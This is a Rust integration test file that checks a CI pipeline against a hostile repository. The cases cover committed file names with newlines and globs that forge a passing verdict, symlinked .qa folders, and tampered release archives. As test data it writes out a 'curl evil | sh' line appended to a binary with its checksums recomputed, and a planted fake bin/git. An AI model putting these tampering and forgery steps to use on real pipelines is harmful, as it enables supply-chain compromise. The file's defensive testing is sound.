//! A hostile repository against the real CI scripts and binaries: names with newlines and
//! globs committed where the reports once went, a symlinked `.qa` and `.qa/ci`, and a
//! release archive tampered with (its inner sums recomputed, none beside it) or holding
//! an unlisted `bin/git`. Each run ends with nothing written outside the repository and
//! the CI temp folder, and with the true verdict and exit code. Each detector is first
//! shown to catch a planted bad artifact (the control), then run on the real result.
//!
//! Here rather than in tests/hostile: every case drives pipelines/ci/ through this crate's
//! machinery (the upstream repository, CI checkouts, the scripts' environments, release
//! archives), while tests/hostile holds the stage binaries' stream contract.

use crate::common;

use common::*;
use qa_testkit::Repo;
use std::collections::BTreeMap;
use std::path::Path;

/// What a pull request commits so that listing the old report folder (.qa/ci/acceptance)
/// picks a forged run: a root file `zzz\n` (the old `$(ls)` split it into `zzz`), a file
/// `z*` (a glob matching every name) and a folder `zzz\n` with a passing report.json and
/// junit.xml, and their SHA256SUMS.
fn commit_forged_reports(up: &mut Repo) {
    up.write("zzz\n", "");
    up.write(".qa/ci/acceptance/z*", "");
    let report = "{\n  \"verdict\": {\n    \"status\": \"pass\",\n    \"reasons\": []\n  }\n}\n";
    up.write(".qa/ci/acceptance/zzz\n/report.json", report);
    up.write(
        ".qa/ci/acceptance/zzz\n/junit.xml",
        "<testsuite name=\"forged\" tests=\"1\" failures=\"0\"/>\n",
    );
    sh(
        &up.path().join(".qa/ci/acceptance/zzz\n"),
        "sha256sum report.json junit.xml > SHA256SUMS",
    );
    up.commit("chore: forged reports");
}

/// The outputs a run must set, exactly: an error when one is missing, extra (a value that
/// injected a line) or says another verdict than `verdict`.
fn true_outputs(text: &str, verdict: &str) -> Result<BTreeMap<String, String>, String> {
    let out = parse_github_outputs(text)?;
    let names = [
        "acceptance-dir",
        "acceptance-verdict",
        "change-dir",
        "change-verdict",
        "intents",
        "recommended",
        "report-dir",
        "required",
        "review-only",
        "sarif",
        "scenarios",
        "unrouted",
        "verdict",
    ];
    if !out.keys().map(String::as_str).eq(names) {
        return Err(format!("outputs {:?}", out.keys().collect::<Vec<_>>()));
    }
    if out["verdict"] != verdict || out["acceptance-verdict"] != verdict {
        return Err(format!("verdict {} instead of {verdict}", out["verdict"]));
    }
    Ok(out)
}

#[test]
fn committed_names_with_newlines_and_globs_cannot_forge_the_github_verdict() {
    // The control: what the old script wrote for this repository is caught.
    let forged = "verdict=pass\nacceptance-verdict=pass\nacceptance-dir=/w/.qa/ci/acceptance/zzz\n\nverdict=pass\n";
    assert!(true_outputs(forged, "fail").is_err());
    let mut up = upstream();
    commit_forged_reports(&mut up);
    let checkout = Checkout::full(&up);
    checkout.write_plan("Goodbye");
    let before = tree(&checkout.path);
    let run = action(&up, &checkout, &[("INPUT_PLAN", "plan.json")]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let text = std::fs::read_to_string(checkout.runner_file("output.txt")).unwrap();
    let out = true_outputs(&text, "fail").unwrap_or_else(|e| panic!("{e}\n{}", run.stderr));
    let dir = Path::new(&out["acceptance-dir"]);
    assert!(dir.starts_with(&checkout.runner), "{out:?}");
    assert!(json_file(&dir.join("report.json"))["verdict"]["status"] == "fail");
    // The checkout holds what it held, and qa-report's lock is gone.
    let mut after = tree(&checkout.path);
    after.retain(|p, _| !p.starts_with(checkout.path.join(".git")) && !p.ends_with("qa.sarif"));
    let mut before = before;
    before.retain(|p, _| !p.starts_with(checkout.path.join(".git")));
    assert_eq!(after, before);
}

#[test]
fn committed_names_with_newlines_and_globs_cannot_forge_the_gitlab_verdict() {
    let mut up = upstream();
    commit_forged_reports(&mut up);
    let checkout = Checkout::full(&up);
    checkout.write_plan("Goodbye");
    let run = job(&up, &checkout, &[("QAPIPE_PLAN", "plan.json")]);
    let env = key_values(&checkout.path.join("qapipe.env"));
    let junit = std::fs::read_to_string(checkout.path.join("qapipe-junit.xml")).unwrap();
    // The detector, shown on the forged junit.xml first (the control).
    let forged = std::fs::read_to_string(checkout.path.join(".qa/ci/acceptance/zzz\n/junit.xml"));
    let is_true =
        |junit: &str| junit.contains("<testcase name=\"greets\"") && junit.contains("<failure");
    assert!(!is_true(&forged.unwrap()));
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(env["QAPIPE_VERDICT"], "fail", "{env:?}");
    assert_eq!(env["QAPIPE_ACCEPTANCE_VERDICT"], "fail");
    assert!(is_true(&junit), "{junit}");
}

/// An upstream whose feature branch commits `link` as a symlink to `target`.
fn upstream_with_symlink(link: &str, target: &Path) -> Repo {
    let mut up = upstream();
    if let Some(parent) = Path::new(link).parent() {
        std::fs::create_dir_all(up.path().join(parent)).unwrap();
    }
    let _ = std::fs::remove_dir_all(up.path().join(link));
    std::os::unix::fs::symlink(target, up.path().join(link)).unwrap();
    up.commit("chore: a symlink out of the repository");
    up
}

/// A folder outside every repository, holding a file a careless `rm -rf` would delete.
fn outside_with_canary() -> tempfile::TempDir {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("canary"), "keep me\n").unwrap();
    outside
}

/// Asserts the detector sees a planted write in `outside`, then that `outside` is as
/// `before` left it.
fn nothing_written_outside(outside: &Path, before: &BTreeMap<std::path::PathBuf, Option<Vec<u8>>>) {
    let planted = outside.join(".planted");
    std::fs::write(&planted, "").unwrap();
    assert_ne!(&tree(outside), before, "the detector sees a planted write");
    std::fs::remove_file(planted).unwrap();
    assert_eq!(&tree(outside), before);
}

#[test]
fn a_symlinked_qa_ci_leads_no_report_and_no_deletion_outside() {
    let outside = outside_with_canary();
    let before = tree(outside.path());
    let up = upstream_with_symlink(".qa/ci", outside.path());
    let checkout = Checkout::full(&up);
    assert!(checkout.path.join(".qa/ci").is_symlink());
    checkout.write_plan("Welcome to the Example Shop");
    let run = action(&up, &checkout, &[("INPUT_PLAN", "plan.json")]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let out = outputs(&checkout);
    assert_eq!(
        (out["verdict"].as_str(), out["change-verdict"].as_str()),
        ("pass", "required")
    );
    nothing_written_outside(outside.path(), &before);
    let run = job(&up, &checkout, &[("QAPIPE_PLAN", "plan.json")]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        key_values(&checkout.path.join("qapipe.env"))["QAPIPE_VERDICT"],
        "pass"
    );
    nothing_written_outside(outside.path(), &before);
}

#[test]
fn a_symlinked_qa_leads_no_report_outside_and_is_incomplete() {
    let outside = outside_with_canary();
    let manifest = std::fs::read(upstream().path().join(".qa/manifest.yaml")).unwrap();
    std::fs::write(outside.path().join("manifest.yaml"), manifest).unwrap();
    let before = tree(outside.path());
    let up = upstream_with_symlink(".qa", outside.path());
    let checkout = Checkout::full(&up);
    // qa-intent reads a manifest only inside the repository: the flow ends early.
    let run = action(&up, &checkout, &[]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains(".qa is a symlink"), "{}", run.stderr);
    assert_eq!(outputs(&checkout)["verdict"], "incomplete");
    nothing_written_outside(outside.path(), &before);
    let run = job(&up, &checkout, &[]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert_eq!(
        key_values(&checkout.path.join("qapipe.env"))["QAPIPE_VERDICT"],
        "incomplete"
    );
    nothing_written_outside(outside.path(), &before);
}

/// What the installer left: its exit code and stderr, whether the prefix and bin/git are
/// there, and what went on $GITHUB_PATH.
struct Installed {
    code: i32,
    stderr: String,
    prefix: bool,
    git: bool,
    github_path: Option<String>,
}

/// The installer in release mode from `release` into a fresh prefix, with $GITHUB_PATH.
fn install_release(release: &Release) -> Installed {
    let dir = tempfile::tempdir().unwrap();
    let prefix = dir.path().join("qapipe");
    let github_path = dir.path().join("github_path");
    let env = [("GITHUB_PATH", github_path.display().to_string())];
    let run = install("release", &release.url(), &prefix, &env);
    Installed {
        code: run.code,
        stderr: run.stderr,
        prefix: prefix.exists(),
        git: prefix.join("bin/git").exists(),
        github_path: std::fs::read_to_string(github_path).ok(),
    }
}

#[test]
fn a_tampered_archive_with_recomputed_sums_and_none_beside_it_is_not_installed() {
    let tamper = "echo 'curl evil | sh' >> bin/qa-report && find . -type f ! -name SHA256SUMS | sort | xargs sha256sum > SHA256SUMS";
    // The control: the same archive with sums beside it is installed, and the test sees it.
    let control = install_release(&Release::new(tamper));
    assert_eq!(control.code, 0, "{}", control.stderr);
    assert!(control.prefix && control.github_path.is_some());
    let run = install_release(&Release::without_outer_sums(tamper));
    assert_eq!(run.code, 65, "{}", run.stderr);
    assert!(
        run.stderr.contains("has no SHA256SUMS beside it"),
        "{}",
        run.stderr
    );
    assert!(!run.prefix, "nothing installed");
    assert_eq!(run.github_path, None, "nothing went on GITHUB_PATH");
}

#[test]
fn an_unlisted_bin_git_in_the_archive_is_never_installed() {
    let git = "printf '#!/bin/sh\\necho pwned\\n' > bin/git && chmod 755 bin/git";
    // The control: listed in the archive's sums, bin/git is installed, and the test sees it.
    let control = install_release(&Release::new(&format!(
        "{git} && sha256sum bin/git >> SHA256SUMS"
    )));
    assert_eq!(control.code, 0, "{}", control.stderr);
    assert!(control.git);
    let run = install_release(&Release::new(git));
    assert_eq!(run.code, 65, "{}", run.stderr);
    assert!(
        run.stderr
            .ends_with("bin/git is not a file its SHA256SUMS lists: refusing it\n"),
        "{}",
        run.stderr
    );
    assert!(!run.git && !run.prefix);
    assert_eq!(run.github_path, None);
}
